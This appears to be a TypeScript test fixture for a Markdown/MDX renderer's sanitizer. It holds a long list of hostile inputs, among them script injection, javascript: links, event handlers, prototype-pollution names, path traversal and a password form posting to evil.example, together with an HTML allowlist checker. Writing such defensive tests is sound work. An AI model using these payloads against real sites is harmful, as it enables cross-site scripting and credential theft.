import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";

/** What a hostile author might write. None of it may be evaluated, and none may reach a page. `CANARY` marks what runs. */
export const attacks = [
  "import x from 'node:fs'",
  "export const x = globalThis.CANARY = 1",
  "export default () => globalThis.CANARY",
  "{globalThis.CANARY = 1}",
  "text {globalThis.CANARY = 1} text",
  "{(() => { globalThis.CANARY = 1 })()}",
  "{/* a */ globalThis.CANARY = 1 /* b */}",
  "{/* a */globalThis.CANARY=1//*/}",
  "{/* #a */}{globalThis.CANARY}",
  "{`$" + "{globalThis.CANARY}`}",
  "{...globalThis.CANARY}",
  "{}",
  "<script>globalThis.CANARY = 1</script>",
  "<script src='https://evil.example/x.js' />",
  "<img src='x' onerror='globalThis.CANARY=1' />",
  "<svg onload='globalThis.CANARY=1' />",
  "<iframe src='https://evil.example' />",
  "<style>{`body{display:none}`}</style>",
  "<object data='x' />",
  "<form action='https://evil.example'><input name='password' /></form>",
  "<a href='javascript:globalThis.CANARY=1'>x</a>",
  "<qa-mark data-kind='question' data-id='x'>x</qa-mark>",
  "<Callout kind='tip' title={globalThis.CANARY}>\n\nx\n\n</Callout>",
  "<Callout kind='tip' title='x' {...globalThis.CANARY}>\n\nx\n\n</Callout>",
  "<Callout kind='tip' title='x' onClick='globalThis.CANARY=1'>\n\nx\n\n</Callout>",
  "<Callout kind='tip' title='x' dangerouslySetInnerHTML='x'>\n\nx\n\n</Callout>",
  "<Callout kind='__proto__' title='x'>\n\nx\n\n</Callout>",
  "<Callout.constructor kind='tip' title='x' />",
  "<globalThis.CANARY />",
  "<constructor />",
  "<__proto__ />",
  "<Wrapper>x</Wrapper>",
  "<MDXLayout>x</MDXLayout>",
  "<></>",
  "<Term id='x' href='javascript:globalThis.CANARY=1'>x</Term>",
  "<Term id='x\" onmouseover=\"globalThis.CANARY=1'>x</Term>",
  "<Figure src='../../../etc/passwd' alt='x' />",
  "<Figure src='https://evil.example/x.png' alt='x' />",
  "<Figure src='javascript:globalThis.CANARY' alt='x' />",
  "<Figure src='x.png' alt='x' style='position:fixed' />",
  "<Video src='x.mp4' captions='data:text/vtt,x' title='x' />",
  "<Question id='../x' />",
  "<Diagram id='constructor' />",
  "<TrainerNote>\n\n<Question id='x' />\n\n</TrainerNote>",
  "<TrainerNote>\n\nopen",
  "</TrainerNote>",
  "[x](javascript:globalThis.CANARY=1)",
  "[x](JaVaScRiPt:globalThis.CANARY=1)",
  "[x](java&#10;script:globalThis.CANARY=1)",
  "[x](&#106;avascript:globalThis.CANARY=1)",
  "[x](\u0001javascript:globalThis.CANARY=1)",
  "[x](data:text/html,<b>x</b>)",
  "[x](vbscript:x)",
  "[x](//evil.example)",
  "[x](/en/sign-out)",
  "[x](\\\\evil.example)",
  "[x](https://a.example\\@evil.example)",
  "[x](section:../../x)",
  '[x](section:x"onclick="globalThis.CANARY=1)',
  "[x](mailto:a@b.example?body=x&bcc=c@d.example)",
  "[x][ref]\n\n[ref]: javascript:globalThis.CANARY=1",
  "![x](https://evil.example/track.gif)",
  "![x][ref]\n\n[ref]: https://evil.example/track.gif",
  "<https://evil.example>",
  "www.evil.example/javascript:x",
  "note[^1]\n\n[^1]: {globalThis.CANARY = 1}",
  "- [x] <b>bold</b>",
  "| a |\n| --- |\n| {globalThis.CANARY = 1} |",
  "| a |\n| --- |\n| <script>x</script> |",
  "```js\nglobalThis.CANARY = 1\n```",
  "    globalThis.CANARY = 1",
  "# Title",
  "#### Deep {/* #deep */}",
  "> ## Quoted {/* #quoted */}",
  "## {globalThis.CANARY = 1} {/* #x */}",
  "## Title {/* #x */ globalThis.CANARY = 1}",
  "## Title {/* #Bad Id */}",
  '## Title {/* #x"onclick="y */}',
  "---js\nglobalThis.CANARY = 1\n---",
  "---\ntitle: x\n---",
  "<!-- comment -->",
  "<?php x ?>",
  "<![CDATA[x]]>",
  "&lt;script&gt;globalThis.CANARY = 1&lt;/script&gt;",
  "\\<script>globalThis.CANARY = 1\\</script>",
  "\\{globalThis.CANARY = 1\\}",
  "`<script>globalThis.CANARY = 1</script>`",
  "&lt;qa-mark data-kind=&quot;question&quot; data-id=&quot;x&quot;&gt;&lt;/qa-mark&gt;",
  '<Callout kind="tip" title="&quot;&gt;&lt;script&gt;x&lt;/script&gt;">\n\nx\n\n</Callout>',
  '<Callout kind="tip" title="</qa-mark><qa-mark data-kind=\'question\'>">\n\nx\n\n</Callout>',
  `${"> ".repeat(30)}x`,
  "[".repeat(500),
  "*".repeat(500),
  `${"(".repeat(3000)}`,
  `{${"(".repeat(3000)}`,
  `${"<Reflect>\n".repeat(50)}`,
];

/** Elements a rendered text may hold, each with its attributes. */
const allowedElements: Record<string, string[]> = {
  p: ["class"],
  em: [],
  strong: [],
  code: [],
  br: [],
  blockquote: [],
  ul: [],
  ol: ["start"],
  li: [],
  a: ["class", "href", "data-term", "rel", "title"],
  div: ["class", "role"],
  span: ["class"],
  section: ["class", "tabindex", "aria-label"],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ["scope", "class"],
  td: ["class"],
  figure: ["class"],
  figcaption: [],
  img: ["src", "alt", "width", "height", "loading", "decoding"],
  video: ["controls", "preload", "src", "poster", "aria-label"],
  track: ["kind", "src", "srclang", "label", "default"],
};
const allowedAddress =
  /^(?:https?:\/\/[a-z0-9]|mailto:[^?]+@[^?]+$|\/(?:en|zh)\/(?:courses|cases|tools|glossary)(?:[/#][a-z0-9/#-]*)?$|\/media\/[a-z0-9/.-]+$|section:[a-z0-9#-]+$)/i;

/** What in a piece of HTML is not on the list, read as a browser reads it. */
export function unlisted(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ChildNode) => {
    if (node.nodeName === "#comment" || node.nodeName === "#documentType") found.push(node.nodeName);
    if ("attrs" in node) {
      const allowed = Object.hasOwn(allowedElements, node.nodeName) ? allowedElements[node.nodeName] : undefined;
      if (!allowed) found.push(`<${node.nodeName}>`);
      for (const { name, value } of node.attrs) {
        if (!allowed?.includes(name)) found.push(`${node.nodeName}[${name}]`);
        const isAddress = name === "href" || name === "src" || name === "poster";
        if (isAddress && !allowedAddress.test(value)) found.push(`${name}=${value}`);
      }
    }
    if ("childNodes" in node) node.childNodes.forEach(visit);
  };
  parseFragment(html).childNodes.forEach(visit);
  return found;
}
